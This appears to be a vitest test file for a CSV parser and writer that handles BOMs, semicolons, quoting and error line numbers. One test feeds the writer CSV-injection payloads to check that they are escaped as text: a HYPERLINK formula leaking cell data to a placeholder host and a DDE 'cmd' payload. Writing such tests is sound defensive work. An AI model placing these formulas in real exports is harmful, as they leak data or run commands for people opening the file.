import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvSyntaxError, parseCsv, writeCsv } from "./csv.js";

describe("parseCsv", () => {
  it("reads a French spreadsheet's export: BOM, semicolons, CRLF, quoted separators and quotes", () => {
    const table = parseCsv('\uFEFFnom;ville\r\n"Martin; Paul";Aubusson\r\n"Le ""Moulin""";Felletin\r\n');
    expect(table.separator).toBe(";");
    expect(table.header).toEqual(["nom", "ville"]);
    expect(table.rows).toEqual([
      { line: 2, cells: ["Martin; Paul", "Aubusson"] },
      { line: 3, cells: ['Le "Moulin"', "Felletin"] },
    ]);
  });

  it("takes commas when the header has them, keeps line numbers across quoted line breaks and skips blank lines", () => {
    const table = parseCsv('a,b\n"x\ny",2\n\n3,4');
    expect(table.separator).toBe(",");
    expect(table.rows).toEqual([
      { line: 2, cells: ["x\ny", "2"] },
      { line: 5, cells: ["3", "4"] },
    ]);
  });

  it("says which line has an unclosed quote", () => {
    expect(() => parseCsv('a;b\n1;"open\n')).toThrow(CsvSyntaxError);
    try {
      parseCsv('a;b\n1;2\n3;"open');
    } catch (error) {
      expect((error as CsvSyntaxError).line).toBe(3);
    }
  });

  it("reads back what writeCsv wrote, whatever the text", () => {
    const cell = fc.string({ unit: fc.constantFrom("a", "é", ";", ",", '"', "\n", " ", "1", "=", "+", "-", "@", "\t", "\r", "'") });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const written = writeCsv(["x", "y"], rows);
        const read = parseCsv(written);
        const expected = rows.filter((r) => r.some((c) => c.trim() !== ""));
        expect(read.rows.map((r) => r.cells)).toEqual(expected);
      }),
    );
  });

  it("writes formulas as text (OWASP CSV injection), keeping plain numbers as numbers", () => {
    const written = writeCsv(["nom", "lon"], [
      ['=HYPERLINK("http://x.test/?"&A1;"Cliquez")', "-1,87"],
      ["+33 5 55 00 00 00", "@SUM(A1)"],
      ["\tcmd", "-2+3+cmd|' /C calc'!A0"],
    ]);
    const cells = written.split("\r\n").slice(1, 4).map((line) => line.split(";")[0]);
    expect(cells).toEqual(['"\'=HYPERLINK(""http://x.test/?""&A1', "'+33 5 55 00 00 00", "'\tcmd"]);
    expect(written).toContain(";-1,87\r\n");
    expect(written).toContain(";'@SUM(A1)\r\n");
    expect(written).toContain(";'-2+3+cmd|' /C calc'!A0\r\n");
  });
});
